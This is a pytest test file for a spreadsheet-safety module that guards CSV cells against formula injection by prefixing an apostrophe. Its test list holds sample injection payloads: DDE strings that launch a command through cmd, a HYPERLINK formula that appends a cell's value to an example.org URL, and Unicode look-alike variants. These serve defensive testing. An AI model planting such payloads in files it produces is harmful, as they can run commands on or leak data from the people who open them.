from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from regraft.atomic_io import csv_text, write_csv
from regraft.data.sources.table import read_cells
from regraft.spreadsheets import guarded, read_records, read_rows, unguarded

#: What Excel, LibreOffice and Google Sheets calculate, by its first character.
FORMULAS = [
    '=HYPERLINK("https://example.org/?"&A1)', "=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0",
    "@SUM(1,1)", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1+1", "\uff20SUM(1)",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_calculate_gets_an_apostrophe(text):
    assert guarded(text) == "'" + text
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", ["", "cat", "1", "-1", "+1.5", "-1e-05", "a=b", "cat's", "'quoted'", " =1"])
def test_other_texts_and_numbers_stay(text):
    assert guarded(text) == text


@given(st.text(alphabet=st.sampled_from("'=+-@\t\r\n1a\uff1d"), max_size=6) | st.text())
@example("'=1")
@example("''")
def test_reading_gives_back_every_text(text):
    assert unguarded(guarded(text)) == text
    assert not guarded(text).startswith(("=", "@", "\t", "\uff1d"))


def test_rows_and_records_are_those_that_were_written(tmp_path):
    rows = [[text, "'=not mine", -0.5, "plain"] for text in FORMULAS]
    write_csv(tmp_path / "file.csv", ("@path", "label", "value", "part"), rows)
    with (tmp_path / "file.csv").open(newline="", encoding="utf-8") as file:
        raw = list(csv.reader(file))
    assert all(cell[:1] not in ("=", "+", "@", "\t", "\r", "\n") for row in raw for cell in row)
    with (tmp_path / "file.csv").open(newline="", encoding="utf-8") as file:
        header, *again = read_rows(file)
    assert (header, again) == (["@path", "label", "value", "part"], [[*map(str, row)] for row in rows])
    with (tmp_path / "file.csv").open(newline="", encoding="utf-8") as file:
        assert [record["@path"] for record in read_records(file)] == FORMULAS


def test_a_manifest_with_guarded_cells_names_the_files_without_the_apostrophe():
    text = csv_text(("path", "label"), [("=1.png", "@home"), ("it's.png", "-1")])
    assert list(csv.reader(io.StringIO(text)))[1] == ["'=1.png", "'@home"]
    assert [row for row in read_cells("m.csv", text.encode()).rows if row] == [["=1.png", "@home"], ["it's.png", "-1"]]


def test_no_other_module_writes_csv():
    source = Path(__file__).parent.parent / "src/regraft"
    writers = {f.relative_to(source).as_posix() for f in source.rglob("*.py") if "csv.writer(" in f.read_text("utf-8")}
    unsafe = {name for name in writers if "guarded_row" not in (source / name).read_text("utf-8")}
    assert writers
    assert not unsafe
